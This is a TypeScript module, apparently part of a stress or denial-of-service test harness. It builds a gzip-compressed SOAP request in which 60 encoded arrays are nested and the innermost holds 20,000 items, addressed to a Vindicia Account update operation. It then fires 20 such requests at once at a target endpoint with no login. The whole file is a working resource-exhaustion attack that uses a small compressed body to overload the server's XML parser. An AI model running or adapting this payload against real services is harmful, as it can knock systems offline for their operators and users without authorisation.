/** SOAP-encoded arrays in one another, many at the innermost: a body that compresses well. */
import { gzipSync } from 'node:zlib';
import type { Attack } from '../attack';
import { counted, envelopeOf, post } from '../sending';

const DEPTH = 60;
const ITEMS = 20_000;
const REQUESTS = 20;

function body(): string {
  const array = (content: string) => `<item xsi:type="enc:Array">${content}</item>`;
  let items = '<item/>'.repeat(ITEMS);
  for (let depth = 0; depth < DEPTH; depth += 1) items = array(items);
  return envelopeOf(
    `<v:update xmlns:v="http://soap.vindicia.com/v22_0/Account"><account>${items}</account></v:update>`,
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:enc="http://schemas.xmlsoap.org/soap/encoding/"',
  );
}

const packed = gzipSync(body());

export const nestedArrays: Attack = {
  name: 'nested-arrays',
  title: `${REQUESTS} requests of ${DEPTH} SOAP arrays in one another, ${ITEMS.toLocaleString('en')} items, no login: ${(packed.length / 1000).toFixed(1)} kB of gzip each`,
  run: async ({ endpoint }) => {
    const headers = { 'Content-Encoding': 'gzip' };
    return counted(
      await Promise.all(Array.from({ length: REQUESTS }, () => post(endpoint, packed, headers))),
    );
  },
};
